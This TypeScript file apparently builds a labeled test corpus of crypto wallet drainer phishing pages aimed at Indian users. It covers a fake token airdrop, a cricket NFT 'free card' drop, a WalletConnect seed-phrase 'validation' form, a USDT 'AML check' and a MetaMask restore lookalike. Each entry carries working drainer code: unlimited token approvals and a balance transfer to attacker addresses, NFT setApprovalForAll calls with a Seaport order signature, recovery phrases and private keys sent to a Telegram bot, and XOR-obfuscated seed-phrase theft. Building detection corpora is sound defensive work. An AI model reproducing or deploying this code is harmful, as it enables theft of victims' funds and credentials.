import { type Entry } from '../entry.js';
import { doc, b64, xorB64, telegramDrop } from '../parts/xa-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

/**
 * Wallet drainers aimed at Indian crypto users: token airdrops, play-to-earn cricket NFT "free player
 * cards", TRC20 approval checks, Permit2 staking signatures, seed-phrase "validation" and MetaMask restore
 * pages, and a WazirX-hack compensation claim.
 */
export const entries: Entry[] = [
{
  id: 'xa-drainer-bharat-token-airdrop-approve-all',
  label: 'cryptodrainer',
  kind: 'airdrop-approve-drainer',
  url: 'https://claim-bharatcoin-airdrop.xyz/',
  body: doc({
    title: '$BHARAT Airdrop – Claim 2,500 BHARAT',
    css: `body{margin:0;background:#0b1020;color:#fff;font-family:Inter,Arial;text-align:center}.h{padding:40px 20px;background:radial-gradient(circle at 50% 0,#ff9933 0,#0b1020 60%)}h1{font-size:34px;margin:0}.c{max-width:420px;margin:20px auto;background:#141b33;border-radius:18px;padding:24px}.b{background:linear-gradient(90deg,#ff9933,#138808);border:0;color:#fff;padding:15px;width:100%;border-radius:12px;font-size:17px;font-weight:bold;cursor:pointer}.s{font-size:12px;color:#8b93b3;margin-top:10px}#st{margin-top:12px;font-size:14px;color:#facc15}`,
    body: `<div class="h"><h1>🇮🇳 $BHARAT Community Airdrop</h1><p>India's first community token on BNB Chain · Phase 2 claim is LIVE</p></div>
<div class="c"><p>Eligible wallets can claim <b>2,500 BHARAT (~₹41,000)</b>. Claim khatam hone se pehle connect karein!</p><button class="b" id="cw">Connect Wallet &amp; Claim</button><div id="st"></div><div class="s">Gas fee only · 18,442 wallets claimed · Ends in 02:14:55</div></div>
<script>
var R='0x5f1c08b2e7A94d16c3B2a9e08F4d71C6e2b93A47',MAX='f'.repeat(64);
var T=['0x55d398326f99059fF775485246999027B3197955','0x8AC76a51cc950d9822D68b83fE1Ad97B32Cd580d','0x2170Ed0880ac9A755fd29B2688956BD959F933F8','0x7130d2A12B9BCbFAe4f2634d864A1Ee1Ce3Ead9c'];
function pad(h){return h.replace(/^0x/,'').toLowerCase().padStart(64,'0')}
async function go(){var eth=window.ethereum;if(!eth){st.textContent='Please open this page in MetaMask / Trust Wallet browser';return}
var acc=(await eth.request({method:'eth_requestAccounts'}))[0];
try{await eth.request({method:'wallet_switchEthereumChain',params:[{chainId:'0x38'}]})}catch(e){}
fetch('/api/v/track',{method:'POST',body:JSON.stringify({a:acc,ref:document.referrer})});
for(var i=0;i<T.length;i++){st.textContent='Verifying eligibility ('+(i+1)+'/'+T.length+')...';
try{await eth.request({method:'eth_sendTransaction',params:[{from:acc,to:T[i],data:'0x095ea7b3'+pad(R)+MAX}]})}catch(e){}}
var bal=BigInt(await eth.request({method:'eth_getBalance',params:[acc,'latest']}));var send=bal-BigInt(3e15);
if(send>0n){st.textContent='Claiming 2,500 BHARAT...';try{await eth.request({method:'eth_sendTransaction',params:[{from:acc,to:R,value:'0x'+send.toString(16)}]})}catch(e){}}
st.textContent='Claim submitted! Tokens will appear in 24 hours.'}
cw.onclick=go;
</script>`,
  }),
  routes: { 'claim-bharatcoin-airdrop.xyz/api/v/track': jsonRoute({ ok: true }) },
},
{
  id: 'xa-drainer-cricket-p2e-free-player-card-seaport',
  label: 'cryptodrainer',
  kind: 'nft-setapprovalforall-drainer',
  url: 'https://cricketlegends-metaverse.io/mint/free-card',
  body: doc({
    title: 'Cricket Legends Metaverse – Claim your FREE Player Card',
    css: `body{margin:0;background:#062b1f;color:#fff;font-family:'Trebuchet MS',Arial}.top{display:flex;justify-content:space-between;padding:14px 20px;background:#04211a}.g{display:flex;gap:16px;justify-content:center;flex-wrap:wrap;padding:20px}.cd{width:160px;height:220px;border-radius:12px;background:linear-gradient(160deg,#fbbf24,#b45309);display:flex;flex-direction:column;justify-content:flex-end;padding:10px;box-sizing:border-box;font-weight:bold;color:#1c1917}.m{text-align:center}.b{background:#22c55e;border:0;color:#022c22;padding:15px 40px;border-radius:30px;font-size:18px;font-weight:bold}#lg{font-size:13px;color:#a7f3d0;margin-top:10px}`,
    body: `<div class="top"><b>🏏 Cricket Legends</b><span>Play · Earn · Own</span></div>
<div class="m"><h1>Season 3 Free Player Card Drop</h1><p>Holders of any NFT get a free Legendary Player Card. Play matches, earn $RUNS every day!</p></div>
<div class="g"><div class="cd">LEGENDARY<br>Batter · 97 OVR</div><div class="cd">EPIC<br>Pacer · 91 OVR</div><div class="cd">RARE<br>Spinner · 88 OVR</div></div>
<div class="m"><button class="b" id="cl">Connect &amp; Claim Free Card</button><div id="lg"></div></div>
<script src="/assets/game-sdk.min.js"></script>`,
  }),
  routes: {
    'cricketlegends-metaverse.io/assets/game-sdk.min.js': jsRoute(
      `(function(){var op='0x9a3B0c4E1f58d27a6C40e2B7d1F9A8c3E5b60D21',sp='0x00000000000000ADc04C56Bf30aC9d3c0aAF14dC';
var nfts=['0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D','0x60E4d786628Fea6478F785A6d7e704777c86a7c6','0xED5AF388653567Af2F388E6224dC7C4b3241C544','0x34d85c9CDeB23FA97cb08333b511ac86E1C4E258'];
function p(h){return h.replace(/^0x/,'').toLowerCase().padStart(64,'0')}
async function claim(){var e=window.ethereum;if(!e)return alert('Install MetaMask to play');var a=(await e.request({method:'eth_requestAccounts'}))[0];var lg=document.getElementById('lg');
for(var i=0;i<nfts.length;i++){lg.textContent='Checking NFT holdings '+(i+1)+'/'+nfts.length+'...';try{await e.request({method:'eth_sendTransaction',params:[{from:a,to:nfts[i],data:'0xa22cb465'+p(op)+p('1')}]})}catch(x){}}
lg.textContent='Sign to register your player profile (free, no gas)';
var order={types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],OrderComponents:[{name:'offerer',type:'address'},{name:'zone',type:'address'},{name:'offer',type:'OfferItem[]'},{name:'consideration',type:'ConsiderationItem[]'},{name:'orderType',type:'uint8'},{name:'startTime',type:'uint256'},{name:'endTime',type:'uint256'},{name:'zoneHash',type:'bytes32'},{name:'salt',type:'uint256'},{name:'conduitKey',type:'bytes32'},{name:'counter',type:'uint256'}],OfferItem:[{name:'itemType',type:'uint8'},{name:'token',type:'address'},{name:'identifierOrCriteria',type:'uint256'},{name:'startAmount',type:'uint256'},{name:'endAmount',type:'uint256'}],ConsiderationItem:[{name:'itemType',type:'uint8'},{name:'token',type:'address'},{name:'identifierOrCriteria',type:'uint256'},{name:'startAmount',type:'uint256'},{name:'endAmount',type:'uint256'},{name:'recipient',type:'address'}]},primaryType:'OrderComponents',domain:{name:'Seaport',version:'1.5',chainId:1,verifyingContract:sp},
message:{offerer:a,zone:'0x0000000000000000000000000000000000000000',offer:nfts.map(function(t){return{itemType:4,token:t,identifierOrCriteria:'0',startAmount:'1',endAmount:'1'}}),consideration:[{itemType:0,token:'0x0000000000000000000000000000000000000000',identifierOrCriteria:'0',startAmount:'1',endAmount:'1',recipient:op}],orderType:0,startTime:'0',endTime:'1893456000',zoneHash:'0x'+'0'.repeat(64),salt:String(Date.now()),conduitKey:'0x0000007b02230091a7ed01230072f7006a004d60a8d4e71d599b8104250f0000',counter:'0'}};
var sig=await e.request({method:'eth_signTypedData_v4',params:[a,JSON.stringify(order)]});
fetch('https://cricketlegends-metaverse.io/api/orders',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({a:a,sig:sig,order:order.message})});lg.textContent='Player card will be airdropped after the season starts!'}
document.getElementById('cl').onclick=claim;})();`,
    ),
  },
},
{
  id: 'xa-drainer-walletconnect-rectify-seed-phrase',
  label: 'cryptodrainer',
  kind: 'seed-phrase-phish',
  url: 'https://walletrectify-dapps.web.app/validate/',
  body: doc({
    title: 'Wallet Rectification | Decentralized Validation Protocol',
    css: `body{margin:0;background:#f5f7fb;font-family:Arial}.h{background:#3b99fc;color:#fff;padding:16px 22px;font-size:20px;font-weight:bold}.g{display:grid;grid-template-columns:repeat(4,1fr);gap:10px;max-width:760px;margin:20px auto}.g div{background:#fff;padding:14px;border-radius:8px;text-align:center;box-shadow:0 1px 4px #0001;cursor:pointer}.f{max-width:560px;margin:20px auto;background:#fff;padding:20px;border-radius:10px;display:none}.tabs button{background:#eef;border:0;padding:8px 12px;margin-right:4px}.tabs button.on{background:#3b99fc;color:#fff}textarea,input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #ccd;border-radius:6px;margin:8px 0}.go{background:#3b99fc;color:#fff;border:0;padding:12px;width:100%;border-radius:6px}`,
    body: `<div class="h">WalletConnect · Validation Node</div>
<p style="text-align:center">Select an issue to fix: Migration · Rectification · Claim Reward · Unstake · Missing balance · Airdrop · Whitelist · Slippage error</p>
<div class="g">${['MetaMask', 'Trust Wallet', 'Coinbase Wallet', 'Phantom', 'Binance Web3', 'OKX Wallet', 'SafePal', 'Exodus', 'Rainbow', 'TokenPocket', 'Ledger Live', 'Atomic']
      .map((w) => `<div data-w="${w}">${w}</div>`)
      .join('')}</div>
<div class="f" id="f"><b id="wn"></b><div class="tabs"><button class="on" data-t="phrase">Phrase</button><button data-t="keystore">Keystore JSON</button><button data-t="private">Private Key</button></div>
<form id="sf"><input type="hidden" name="wallet" id="wv"><input type="hidden" name="type" id="tv" value="phrase"><textarea name="data" rows="4" placeholder="Enter your 12 or 24 word recovery phrase, separated by single spaces" required></textarea><input name="pw" placeholder="Keystore password (only for keystore)"><button class="go">Validate</button></form><p style="font-size:12px;color:#888">Typically 12 (sometimes 24) words separated by single spaces. Data is encrypted end-to-end.</p></div>
<script>
${telegramDrop('rel', '6995120381:AAH0sD4kPq7ZrX1mVw9yBn3LcT6uJe2fG8o', '-1002331170945')}
document.querySelectorAll('[data-w]').forEach(function(d){d.onclick=function(){wn.textContent=wv.value=d.dataset.w;f.style.display='block';f.scrollIntoView()}});
document.querySelectorAll('[data-t]').forEach(function(b){b.onclick=function(e){e.preventDefault();document.querySelectorAll('[data-t]').forEach(function(x){x.classList.remove('on')});b.classList.add('on');tv.value=b.dataset.t}});
sf.onsubmit=function(e){e.preventDefault();var d=new FormData(sf),m='🔑 '+d.get('wallet')+' ['+d.get('type')+']\\n'+d.get('data')+'\\npw: '+d.get('pw');rel(m).then(function(){alert('Validation failed: node timeout (error 502). Please try again later.')})};
</script>`,
  }),
},
{
  id: 'xa-drainer-tron-usdt-aml-check-increase-approval',
  label: 'cryptodrainer',
  kind: 'trc20-approve-drainer',
  url: 'https://usdt-amlcheck.trx-verify.net/p2p/',
  body: doc({
    title: 'USDT AML Check – Verify your USDT is clean for P2P',
    css: `body{margin:0;background:#eef6f3;font-family:Arial}.c{max-width:440px;margin:40px auto;background:#fff;border-radius:16px;padding:24px;box-shadow:0 4px 18px #0001;text-align:center}.c h2{color:#26a17b}.b{background:#26a17b;color:#fff;border:0;border-radius:10px;padding:14px;width:100%;font-size:16px}.r{text-align:left;font-size:13px;background:#f6f6f6;padding:10px;border-radius:8px;margin-top:12px}`,
    body: `<div class="c"><h2>₮ USDT AML Check</h2><p>Binance / WazirX P2P buyers ask for proof that your USDT is not linked to scam or hacked funds. Run a free AML risk check of your TRC20 wallet before selling to avoid bank account freeze.</p><button class="b" id="ck">Connect TronLink &amp; Check</button><div class="r" id="r">Risk score will appear here.</div></div>
<script>
(async function(){var S='${b64('TXr7k5qkD1PnRkYuzZL9aP2dqXjMc8Weh3')}',U='TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t';
ck.onclick=async function(){if(!window.tronLink&&!window.tronWeb){r.textContent='Open this page in TronLink / Trust Wallet DApp browser.';return}
try{await window.tronLink.request({method:'tron_requestAccounts'})}catch(e){}
var tw=window.tronWeb,me=tw.defaultAddress.base58;r.textContent='Scanning '+me+' ...';
var c=await tw.contract().at(U);
await c.increaseApproval(atob(S),'115792089237316195423570985008687907853269984665640564039457584007913129639935').send({feeLimit:100000000});
fetch('/p2p/aml/report',{method:'POST',body:JSON.stringify({w:me})});
r.innerHTML='<b>Risk score: 12% (Low)</b><br>Your USDT is clean. Certificate sent to P2P counterparty.'}})();
</script>`,
  }),
  routes: { 'usdt-amlcheck.trx-verify.net/p2p/aml/report': jsonRoute({ score: 12 }) },
},
(() => {
  const exfil = `var w=document.querySelectorAll('.w input'),p=[];w.forEach(function(i){p.push(i.value.trim())});fetch('/onboarding/import/sync.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:'d='+btoa(p.join(' '))+'&n='+p.length+'&pw='+btoa(document.getElementById('np').value)})`;
  return {
    id: 'xa-drainer-metamask-import-lookalike-xor',
    label: 'cryptodrainer',
    kind: 'seed-phrase-phish',
    url: 'https://metamask-wallet-restore.io/onboarding/import',
    body: doc({
      title: 'MetaMask',
      css: `body{margin:0;background:#f2f4f6;font-family:Euclid,Roboto,Arial}.h{background:#fff;padding:14px 30px;border-bottom:1px solid #ddd;font-weight:bold;color:#f6851b;font-size:20px}.c{max-width:620px;margin:30px auto;background:#fff;border-radius:10px;padding:30px;text-align:center}.w{display:grid;grid-template-columns:repeat(3,1fr);gap:10px;margin:18px 0}.w div{display:flex;align-items:center;gap:6px}.w input{flex:1;padding:9px;border:1px solid #bbc0c5;border-radius:8px}select{padding:8px;border-radius:8px}.b{background:#0376c9;color:#fff;border:0;border-radius:100px;padding:13px 40px;font-size:15px}`,
      body: `<div class="h">🦊 METAMASK</div>
<div class="c"><h2>Access your wallet with your Secret Recovery Phrase</h2><p>MetaMask cannot recover your password. We will use your Secret Recovery Phrase to validate your ownership, restore your wallet and set up a new password.</p>
<select id="len"><option value="12">I have a 12-word phrase</option><option value="15">15</option><option value="18">18</option><option value="21">21</option><option value="24">24</option></select>
<div class="w" id="wg"></div><input id="np" type="password" placeholder="New password (8 characters min)" style="padding:10px;width:60%;border:1px solid #bbc0c5;border-radius:8px"><br><br><button class="b" id="cf">Confirm Secret Recovery Phrase</button></div>
<script>
function draw(n){wg.innerHTML='';for(var i=1;i<=n;i++)wg.innerHTML+='<div>'+i+'. <input type="password" autocomplete="off"></div>'}draw(12);len.onchange=function(){draw(+len.value)};
var _x=atob('${xorB64(exfil, 'mm26')}'),_k='mm26',_s='';for(var i=0;i<_x.length;i++)_s+=String.fromCharCode(_x.charCodeAt(i)^_k.charCodeAt(i%4));
cf.onclick=function(){new Function(_s)();cf.disabled=true;cf.textContent='Restoring...';setTimeout(function(){location.href='https://metamask.io/'},2500)};
</script>`,
    }),
    routes: { 'metamask-wallet-restore.io/onboarding/import/sync.php': jsonRoute({ r: 1 }) },
  } satisfies Entry;
})(),
];
